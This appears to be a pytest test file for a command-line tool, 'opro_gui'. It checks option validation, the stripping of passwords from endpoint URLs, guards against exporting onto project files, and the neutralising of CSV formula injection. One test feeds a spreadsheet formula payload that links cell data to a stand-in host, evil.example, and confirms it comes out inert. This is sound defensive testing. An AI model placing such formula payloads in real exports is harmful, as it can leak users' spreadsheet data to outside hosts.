"""Bad options, credentials in URLs, exports onto projects, CSV formulas, leftovers, bad text."""

from __future__ import annotations

import csv
import json
import os
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest

from opro_gui.cli import main
from opro_gui.core.models import RunSettings
from opro_gui.llm import EndpointConfig
from opro_gui.problems.linear_regression import LinearRegressionProblem
from opro_gui.services import ProjectSession
from opro_gui.services.export import safe_cells
from opro_gui.storage import ProjectError, ProjectStore, leftovers


def opro(*args: str, capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    try:
        code = main(list(args))
    except SystemExit as exc:  # argparse refuses bad usage this way
        code = int(exc.code or 0)
    out, err = capsys.readouterr()
    return code, out, err


@pytest.fixture
def project(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    path = tmp_path / "p.opro"
    assert opro("new", "tsp", str(path), "--points", "6", capsys=capsys)[0] == 0
    return path


# -- item 7: every option checked before anything is written, by name ---------------------
@pytest.mark.parametrize(
    ("option", "value", "says"),
    [
        ("--rpm", "-1", "argument --rpm: must be at least 1, not -1"),
        ("--tpm", "0", "argument --tpm: must be at least 1, not 0"),
        ("--samples", "0", "argument --samples: must be within 1..1000, not 0"),
        ("--samples", "-1", "argument --samples: must be within 1..1000, not -1"),
        ("--max-tokens", "-5", "argument --max-tokens: must be within 1..1000000, not -5"),
        ("--history-size", "-1", "argument --history-size: must be at least 0, not -1"),
        ("--patience", "-1", "argument --patience: must be at least 1, not -1"),
        ("--timeout", "nan", "argument --timeout: expected a finite number, not 'nan'"),
        ("--timeout", "0", "argument --timeout: must be within 0..1e+06, not 0"),
        ("--temperature", "inf", "argument --temperature: expected a finite number, not 'inf'"),
        ("--concurrency", "0", "argument --concurrency: must be within 1..256, not 0"),
        ("--budget-usd", "-2", "argument --budget-usd: must be more than 0, not -2"),
        ("--seed", "99999999999999999999", "argument --seed: must fit in 64 bits"),
        ("--scorer-rpm", "-3", "argument --scorer-rpm: must be at least 1, not -3"),
    ],
)
def test_a_bad_option_is_named_and_nothing_is_written(
    project: Path, capsys: pytest.CaptureFixture[str], option: str, value: str, says: str
) -> None:
    before = project.read_bytes()
    code, out, err = opro("run", str(project), "--steps", "2", option, value, capsys=capsys)
    assert code == 2 and out == ""
    assert err == f"opro run: error: {says} (see opro run --help)\n"
    assert project.read_bytes() == before
    assert sorted(p.name for p in project.parent.iterdir()) == ["p.opro"]


def test_run_settings_refuse_bad_values_wherever_they_come_from() -> None:
    for bad in (
        {"samples_per_step": 0},
        {"max_tokens": -5},
        {"history_size": -1},
        {"patience": -1},
        {"temperature": float("nan")},
        {"budget_usd": -1.0},
        {"budget_tokens": 2**64},
        {"history_size": "x"},
        {"seed": True},
    ):
        with pytest.raises(ValueError, match=f"setting {next(iter(bad))} must be"):
            RunSettings(**bad)  # type: ignore[arg-type]
    assert RunSettings(history_size=0, patience=1, budget_usd=0.5).history_size == 0


def test_endpoint_config_refuses_bad_values() -> None:
    url = "http://127.0.0.1:1/v1"
    for bad, says in (
        ({"rpm": -1}, "rpm must be"),
        ({"timeout": float("nan")}, "timeout must be"),
        ({"max_tokens": 0}, "max_tokens must be"),
        ({"concurrency": 0}, "concurrency must be"),
        ({"price_in_per_mtok": -1.0}, "price_in_per_mtok must be"),
    ):
        with pytest.raises(ValueError, match=says):
            EndpointConfig(base_url=url, model="m", **bad)  # type: ignore[arg-type]


# -- item 4: credentials in a base URL ------------------------------------------------------
def test_a_password_in_the_base_url_is_refused_without_repeating_it(
    project: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    url = "http://alice:hunter2-secret@127.0.0.1:9/v1"
    code, out, err = opro("run", str(project), "--steps", "2", "--base-url", url, capsys=capsys)
    assert code == 2 and "holds a user name or password" in err
    assert "hunter2" not in out + err
    monkeypatch.setenv("OPENAI_BASE_URL", url)
    code, out, err = opro("run", str(project), "--steps", "2", capsys=capsys)
    assert code == 2 and "holds a user name or password" in err
    assert "hunter2" not in out + err
    assert b"hunter2" not in project.read_bytes()
    with pytest.raises(ValueError, match="user name or password"):
        EndpointConfig(base_url=url, model="m")


def test_a_stored_url_with_a_password_loses_it_when_read() -> None:
    cfg = EndpointConfig.from_dict({"base_url": "https://bob:pw@example.org/v1", "model": "m"})
    assert cfg.base_url == "https://example.org/v1"


# -- item 6: export onto the project -------------------------------------------------------
@pytest.mark.parametrize("suffix", ["", "-wal", "-shm", "-journal"])
def test_export_refuses_the_project_and_its_companions(
    project: Path, capsys: pytest.CaptureFixture[str], suffix: str
) -> None:
    before = project.read_bytes()
    target = f"{project}{suffix}"
    code, _, err = opro("export", str(project), "-o", target, capsys=capsys)
    assert code == 2 and "refusing to export onto" in err
    assert project.read_bytes() == before
    assert not Path(target).exists() or suffix == ""


def test_export_refuses_any_sqlite_file(
    project: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    other = tmp_path / "other.db"
    sqlite3.connect(other).execute("CREATE TABLE t (x)").connection.close()
    before = other.read_bytes()
    code, _, err = opro("export", str(project), "-o", str(other), capsys=capsys)
    assert code == 2 and "it is a SQLite database" in err
    assert other.read_bytes() == before


def test_save_as_onto_itself_is_refused(project: Path) -> None:
    with ProjectSession.open(project) as s, pytest.raises(ProjectError, match="itself"):
        s.save_as(project)


# -- item 3: CSV injection -----------------------------------------------------------------
def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
    cells = safe_cells('=HYPERLINK("http://x"&A1,"Open")', "+1", "-2", "@SUM(A1)", "\tx", "\ry")
    assert cells == [
        '\'=HYPERLINK("http://x"&A1,"Open")',
        "'+1",
        "'-2",
        "'@SUM(A1)",
        "'\tx",
        "'\ry",
    ]
    assert safe_cells("plain", 3, -1.5, None) == ["plain", 3, -1.5, None]


def test_csv_export_of_a_formula_answer(
    project: Path, fake_server: type, capsys: pytest.CaptureFixture[str]
) -> None:
    formula = '=HYPERLINK("http://evil.example/"&A1,"Open")'
    with fake_server(lambda prompt, body: formula) as srv:
        opro("run", str(project), "--steps", "1", "--base-url", srv.base_url,
             "--no-format-check", capsys=capsys)  # fmt: skip
    out = project.with_name("f.csv")
    assert opro("export", str(project), "--format", "csv", "-o", str(out), capsys=capsys)[0] == 0
    cells = [
        cell for row in csv.reader(out.read_text(encoding="utf-8").splitlines()) for cell in row
    ]
    assert any(formula in c for c in cells)  # the answer is there...
    live = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert all(c.lstrip("-").isdigit() for c in live)  # ...inert (numbers stay numbers)


# -- item 11: part files left by a killed export / Save As; one-line errors -----------------
def test_part_files_of_a_dead_process_are_swept_on_the_next_start(tmp_path: Path) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    pid = int(dead.stdout)
    mine = leftovers.part_path(tmp_path / "x.json")
    theirs = mine.with_name(mine.name.replace(f".{os.getpid()}@", f".{pid}@"))
    for p in (mine, theirs, Path(f"{theirs}-journal"), tmp_path / "someone-else.part"):
        p.write_text("half")
    removed = leftovers.sweep(tmp_path)
    assert sorted(p.name for p in removed) == sorted([theirs.name, theirs.name + "-journal"])
    assert mine.exists() and (tmp_path / "someone-else.part").exists()


def test_opening_a_project_sweeps_its_folder(project: Path) -> None:
    dead = subprocess.run(
        [sys.executable, "-c", "import os; print(os.getpid())"],
        capture_output=True,
        text=True,
        check=True,
    )
    stale = leftovers.part_path(project.parent / "big.json")
    stale = stale.with_name(stale.name.replace(f".{os.getpid()}@", f".{int(dead.stdout)}@"))
    stale.write_bytes(b"x" * 1000)
    ProjectStore.open(project, readonly=True).close()
    assert not stale.exists()


def test_a_newline_in_a_path_stays_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    code, _, err = opro("show", str(tmp_path / "a\nb.opro"), capsys=capsys)
    assert code == 2
    assert err == f"opro: error: no such project file: {tmp_path}/a\\nb.opro\n"


# -- item 10: half an emoji in a dataset -----------------------------------------------------
def test_a_lone_surrogate_in_a_dataset_is_replaced(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    data = tmp_path / "d.jsonl"
    lines = [f'{{"input": "q{i} \\ud83d", "target": "{i}"}}' for i in range(6)]
    data.write_text("\n".join(lines), encoding="ascii")
    out = tmp_path / "d.opro"
    code, _, err = opro("new", "prompt", str(out), "--dataset", str(data), capsys=capsys)
    assert code == 0, err
    with ProjectSession.open(out, readonly=True) as s:
        inputs = sorted(e["input"] for e in s.store.examples())
    assert inputs == [f"q{i} \ufffd" for i in range(6)]


def test_a_project_that_cannot_be_written_is_not_left_half_made(tmp_path: Path) -> None:
    path = tmp_path / "half.opro"
    spec = {"kind": "prompt", "name": "h", "examples": [{"input": "a\ud83d", "target": "1"}] * 2}
    with pytest.raises(ProjectError):
        ProjectStore.create(path, "prompt", spec)
    assert list(tmp_path.iterdir()) == []


# -- item 11: linear regression far outside float precision -------------------------------
def test_linear_regression_refuses_coefficients_beyond_float_precision(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    with pytest.raises(ValueError, match="w must be within"):
        LinearRegressionProblem(10**21, 14)
    code, _, err = opro(
        "new", "linreg", str(tmp_path / "l.opro"), "--w", str(10**21), capsys=capsys
    )
    assert code == 2 and "argument --w: must be within" in err
    assert not (tmp_path / "l.opro").exists()
    big = LinearRegressionProblem(10**9, -(10**9)).summary()
    assert (big["optimum_w"], big["optimum_b"]) == (10**9, -(10**9))


def test_a_hand_edited_url_password_is_never_shown_or_exported(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    url = "http://carol:pa55word@127.0.0.1:9/v1"
    with ProjectSession.open(project) as s:
        run_id = s.prepare_run(
            RunSettings(max_steps=1), EndpointConfig("http://127.0.0.1:9/v1", "m")
        )
    conn = sqlite3.connect(project)
    with conn:
        conn.execute(
            "UPDATE run SET optimizer = ?, status = 'failed', status_reason = ? WHERE id = ?",
            (json.dumps({"base_url": url, "model": "m"}), f"connection to {url} failed", run_id),
        )
    conn.close()
    outputs = [tmp / name for tmp in [project.parent] for name in ("e.json", "e.csv")]
    assert opro("show", str(project), capsys=capsys)[0] == 0
    assert opro("show", str(project), "--json", capsys=capsys)[0] == 0
    assert opro("export", str(project), "-o", str(outputs[0]), capsys=capsys)[0] == 0
    code, out, err = opro("export", str(project), "--format", "csv", "-o", str(outputs[1]),
                          capsys=capsys)  # fmt: skip
    assert code == 0
    with ProjectSession.open(project, readonly=True) as s:
        assert s.endpoints(run_id)[0].base_url == "http://127.0.0.1:9/v1"
    shown = "".join(
        opro(c, str(project), *a, capsys=capsys)[1]
        for c, a in [("show", ()), ("show", ("--json",))]
    )
    assert "carol" in url and "pa55word" not in shown
    for path in outputs:
        assert b"pa55word" not in path.read_bytes()
